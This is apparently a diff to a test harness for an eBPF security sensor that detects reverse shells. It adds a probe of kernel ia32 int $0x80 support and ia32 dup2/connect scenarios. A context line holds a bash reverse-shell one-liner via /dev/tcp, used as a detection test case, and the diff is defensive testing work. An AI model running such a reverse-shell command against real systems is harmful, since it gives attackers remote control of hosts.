@@ -118,9 +118,14 @@ async function main() {
   out.probe = probe();
   // The next candidate must stand on its own too: with the LSM program skipped, fentry.
   out.probeWithoutLsm = probe({ skipCandidates: ["lsm/socket_connect"] });
+  // What an int $0x80 really does in this kernel, asked by a process of the suite's own (exit 0:
+  // taken; SIGSEGV: refused), for the host to hold the sensor's own probe against.
+  const ia32 = await run(IA32_HELPER, ["getpid", "0"]);
+  out.ia32Getpid = { status: ia32.status, signal: ia32.signal };
 
   // With ia32 syscalls watched: the 6.1 verifier must take that program too, the cases below
   // must not be reported twice (each expects exactly one finding), and the ia32 ones are seen.
+  // On a kernel that refuses ia32 syscalls the sensor must still start, loading nothing for them.
   const sensor = await openSensor({ compatSyscalls: true });
   out.programs = sensor.programs;
   out.features = sensor.features;
@@ -186,7 +191,8 @@ async function main() {
     `setsid bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'; true`,
   ]);
   // ia32 syscalls through int $0x80: the dup by the compat program; the connect by the LSM or
-  // fentry program, which see every connect (the compat program leaves connect to them).
+  // fentry program, which see every connect (the compat program leaves connect to them). On a
+  // kernel that refuses them the helper dies with SIGSEGV at its first int $0x80.
   await scenario("ia32-dup2-fd1", "TRC-101", (p) => [IA32_HELPER, "dup2", String(p)]);
   await scenario("ia32-connect-fd0", "TRC-101", (p) => [IA32_HELPER, "connect", String(p)]);
   // Negatives: each must give no finding at all.
